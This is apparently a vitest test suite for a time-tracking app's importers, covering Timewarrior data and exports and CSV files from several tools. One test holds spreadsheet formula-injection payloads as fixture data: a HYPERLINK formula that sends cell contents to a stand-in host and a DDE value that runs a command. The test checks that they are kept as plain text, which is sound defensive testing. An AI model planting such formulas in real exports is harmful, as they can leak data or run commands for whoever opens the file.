import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createImportBench, fixture, fixtureFolder, type ImportBench, textFile } from './import-support.ts'

let bench: ImportBench
beforeEach(() => {
  bench = createImportBench()
})
afterEach(() => bench.dispose())

describe('Timewarrior', () => {
  it('reads a data folder: intervals of all months, no end made up, one bad line told with its file', async () => {
    const preview = await bench.preview(fixtureFolder('timewarrior'), 'timewarrior')
    expect(preview).toMatchObject({ rows: 5, toAdd: 4, failed: 1, firstDay: '2026-02-27', lastDay: '2026-03-03' })
    expect(preview.problems).toEqual([
      { file: '2026-03.data', line: 3, severity: 'error', message: expect.stringContaining('no Timewarrior interval') },
      {
        file: '2026-03.data',
        line: 4,
        severity: 'warning',
        message: expect.stringContaining('Stop it there and import again'),
      },
    ])
    expect(preview.sample[2]).toMatchObject({
      note: 'Fixed the "retry" bug; 50% done # not a tag',
      tags: ['#hash', 'a,b', 'back\\slash', "it's", 'plain', 'two words', 'with "quotes"', 'åäö'],
    })
  })

  it('knows the intervals of the folder again in what timew export prints', async () => {
    await bench.runSkippingFailed(fixtureFolder('timewarrior'), 'timewarrior')
    expect(await bench.preview(fixture('timewarrior-export.json'), 'timewarrior')).toMatchObject({
      rows: 2,
      toAdd: 0,
      alreadyThere: 2,
      problems: [{ line: 3, severity: 'warning' }],
    })
  })

  it('says which files it wants when none of them is there', async () => {
    await expect(bench.preview(textFile('[tool]\n', 'timewarrior.cfg.txt'), 'timewarrior')).rejects.toMatchObject({
      code: 'unreadable-file',
    })
    await expect(bench.preview(textFile('hello', 'notes.txt'), 'timewarrior')).rejects.toMatchObject({
      code: 'unreadable-file',
      message: expect.stringContaining('2026-03.data'),
    })
  })
})

describe('any CSV', () => {
  it('turns a date and an amount into an entry without clock times, with decimal commas', async () => {
    const preview = await bench.preview(fixture('harvest.csv'), 'csv')
    expect(preview).toMatchObject({ rows: 4, toAdd: 3, failed: 1, options: { delimiter: ';' } })
    expect(preview.problems).toEqual([
      { line: 4, file: '', severity: 'error', message: 'It lasts longer than 999 hours' },
    ])
    await bench.runSkippingFailed(fixture('harvest.csv'), 'csv')
    expect((await bench.entries()).map((entry) => entry.time)).toEqual([
      { kind: 'day', day: '2026-03-02', durationMs: 5_400_000, zone: 'Europe/Stockholm' },
      { kind: 'day', day: '2026-03-02', durationMs: 900_000, zone: 'Europe/Stockholm' },
      { kind: 'day', day: '2026-03-04', durationMs: 43_200_000, zone: 'Europe/Stockholm' },
    ])
  })

  it('joins a date with begin and end, over midnight with a warning, and counts a row of one id once', async () => {
    const preview = await bench.preview(fixture('kimai.csv'), 'csv')
    expect(preview).toMatchObject({ rows: 3, toAdd: 2, repeatedInFile: 1, failed: 0, newClients: ['Nordwind'] })
    expect(preview.sample[1]).toMatchObject({ start: '2026-03-02 23:30:00', end: '2026-03-03 00:15:00' })
    expect(preview.problems.map((problem) => problem.message)).toEqual([
      expect.stringContaining('the next day was taken'),
      expect.stringContaining('the next day was taken'),
    ])
  })

  it('reads Clockify’s quoted columns, 12 h clock and month first', async () => {
    const preview = await bench.preview(fixture('clockify.csv'), 'csv')
    expect(preview).toMatchObject({
      toAdd: 2,
      failed: 0,
      options: { dateOrder: 'mdy' },
      newActivities: ['Development'],
    })
    expect(preview.sample[1]).toMatchObject({
      start: '2026-03-15 23:30:00',
      end: '2026-03-16 00:15:00',
      durationMs: 2_700_000,
    })
  })

  it('reads Windows-1252 and says so, and UTF-16 by its mark', async () => {
    const windows = await bench.preview(fixture('swedish-windows-1252.csv'), 'csv')
    expect(windows.sample[0]).toMatchObject({ client: 'Räksmörgås AB', note: 'Återkoppling – 5 €', activity: 'Möte' })
    expect(windows.problems).toEqual([
      { line: null, file: '', severity: 'warning', message: expect.stringContaining('Windows-1252') },
    ])
    const utf16 = await bench.preview(fixture('utf-16.csv'), 'csv')
    expect(utf16).toMatchObject({ problems: [], options: { delimiter: '\t' }, sample: [{ note: 'Möte 🦐' }] })
  })

  it('takes offsets to the millisecond and a zone per row, and refuses a zone that is none', async () => {
    const preview = await bench.preview(fixture('offsets.tsv'), 'csv')
    expect(preview).toMatchObject({ toAdd: 2, failed: 1, problems: [{ line: 4, severity: 'error' }] })
    await bench.runSkippingFailed(fixture('offsets.tsv'), 'csv')
    expect((await bench.entries()).map((entry) => entry.time)).toEqual([
      {
        kind: 'clock',
        startedAtMs: Date.UTC(2026, 2, 2, 8, 0, 0, 250),
        endedAtMs: Date.UTC(2026, 2, 2, 9, 30, 0, 750),
        zone: 'Europe/Stockholm',
      },
      {
        kind: 'clock',
        startedAtMs: Date.UTC(2026, 2, 2, 14),
        endedAtMs: Date.UTC(2026, 2, 2, 15),
        zone: 'America/New_York',
      },
    ])
  })

  it('says which columns there are when none is known, and reads them as the person maps them', async () => {
    await expect(bench.preview(fixture('unknown-columns.csv'), 'csv')).rejects.toMatchObject({
      code: 'mapping-needed',
      data: { columns: ['Wann', 'Was', 'Wieviel Zeit'] },
    })
    const columns = { date: 'Wann', duration: 'Wieviel Zeit', note: 'Was' }
    expect(await bench.preview(fixture('unknown-columns.csv'), 'csv', { columns })).toMatchObject({
      toAdd: 1,
      options: { columns },
      sample: [{ start: '2026-03-02', end: '', durationMs: 5_400_000, note: 'Payment retry' }],
    })
  })

  it('counts lines as an editor does, behind Excel’s first line, blank lines and quoted line breaks', async () => {
    const rows = [
      'sep=;',
      '',
      'Start;End;Note',
      '2026-03-02 09:00;2026-03-02 10:00;"two',
      'lines"',
      '',
      'never;2026-03-02 10:00;bad',
      '',
    ]
    const preview = await bench.preview(textFile(rows.join('\r\n')), 'csv')
    expect(preview).toMatchObject({ toAdd: 1, failed: 1, options: { delimiter: ';' }, problems: [{ line: 7 }] })
    const mac = textFile('Start,End\r2026-03-02 09:00,2026-03-02 10:00\rnever,2026-03-02 10:00\r')
    expect(await bench.preview(mac, 'csv')).toMatchObject({ toAdd: 1, problems: [{ line: 3 }] })
  })

  it('reads several files at once, and says which one a problem is in', async () => {
    const year = (name: string, row: string) => textFile(`Start,End,Note\n${row},${name}\n`, name)
    const files = [year('2025.csv', '2025-03-02 09:00,2025-03-02 10:00'), year('2026.csv', '2026-03-02 09:00,never')]
    const preview = await bench.preview(files, 'csv')
    expect(preview).toMatchObject({ rows: 2, toAdd: 1, problems: [{ file: '2026.csv', line: 2 }] })
    expect(await bench.runSkippingFailed(files, 'csv')).toMatchObject({ batch: { fileName: '2025.csv and 1 more' } })
  })

  it('keeps cells that a spreadsheet would run as plain text', async () => {
    await bench.run(fixture('formulas.csv'), 'toggl')
    const { projects, tags } = await bench.client.catalogue.get({})
    expect((await bench.entries()).map((entry) => entry.note)).toEqual([
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "-2+3+cmd|' /C calc'!A0",
    ])
    expect(projects.map((project) => project.name).sort()).toEqual(['=1+1', '@SUM(1+1)'])
    expect(tags.map((tag) => tag.name).sort()).toEqual(['+tag', '-dash', '@tag'])
  })

  it('uses what the profile already calls by these names, however they are spelled', async () => {
    const { client, key } = bench
    const { item: customer } = await client.clients.create({ commandKey: key(), name: 'nordwind' })
    const { item: project } = await client.projects.create({
      commandKey: key(),
      name: 'WEBSHOP',
      clientId: customer.id,
      billableByDefault: true,
    })
    const file = textFile('Start,End,Client,Project,Tags\n2026-03-02 09:00,2026-03-02 10:00,Nordwind, Webshop ,a;A;b\n')
    await bench.run(file, 'csv')
    const [entry] = await bench.entries()
    expect(entry).toMatchObject({ projectId: project.id, billable: true })
    expect(entry?.tagIds).toHaveLength(2)
    expect((await client.catalogue.get({})).clients).toHaveLength(1)
  })
})
